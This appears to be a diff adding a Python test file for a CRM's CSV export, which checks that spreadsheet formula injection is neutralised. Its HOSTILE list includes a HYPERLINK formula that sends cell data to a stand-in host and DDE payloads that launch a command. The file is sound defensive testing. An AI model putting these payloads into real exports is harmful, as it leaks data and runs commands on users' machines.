@@ -1,0 +1,52 @@
+"""A cell is what somebody wrote, never what their words would make a spreadsheet do."""
+
+import csv
+import io
+
+import pytest
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+
+from crm.spreadsheets import BEGINS_FORMULA, BYTE_ORDER_MARK, cell, csv_response, lines
+
+HOSTILE = [
+    '=HYPERLINK("https://mau.example/?"&A1,"Clique")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    "  =1+1",
+    "＝1+1",
+    '=1+1";=1+1',
+]
+
+
+@pytest.mark.parametrize("written", HOSTILE)
+def test_no_cell_begins_as_a_formula(written: str) -> None:
+    assert cell(written) == f"'{written}"
+
+
+@pytest.mark.parametrize(("value", "shown"), [("Ana", "Ana"), (None, ""), (-12.5, "-12.5"), (7, "7"), ("a=b", "a=b")])
+def test_what_is_harmless_stays_as_it_is(value: object, shown: str) -> None:
+    assert cell(value) == shown
+
+
+@settings(max_examples=60, suppress_health_check=[HealthCheck.too_slow], deadline=None)
+@given(st.lists(st.tuples(st.text(max_size=20), st.text(max_size=20)), min_size=1, max_size=3))
+def test_what_is_read_back_is_what_was_written_and_never_a_formula(rows: list[tuple[str, str]]) -> None:
+    text = "".join(lines(rows))
+    assert text.startswith(BYTE_ORDER_MARK)
+    found = list(csv.reader(io.StringIO(text.removeprefix(BYTE_ORDER_MARK), newline=""), delimiter=";"))
+    assert len(found) == len(rows)
+    for row, line in zip(rows, found, strict=True):
+        for written, read in zip(row, line, strict=True):
+            assert not read.lstrip().startswith(BEGINS_FORMULA)
+            assert read.removeprefix("'") == written.replace("\x00", "").removeprefix("'")
+
+
+def test_it_is_saved_and_not_shown() -> None:
+    answer = csv_response("contatos.csv", [["nome"], ["=1+1"]])
+    assert answer.headers["Content-Disposition"] == 'attachment; filename="contatos.csv"'
+    assert b"'=1+1" in b"".join(answer.streaming_content)  # type: ignore[arg-type] # not an async one
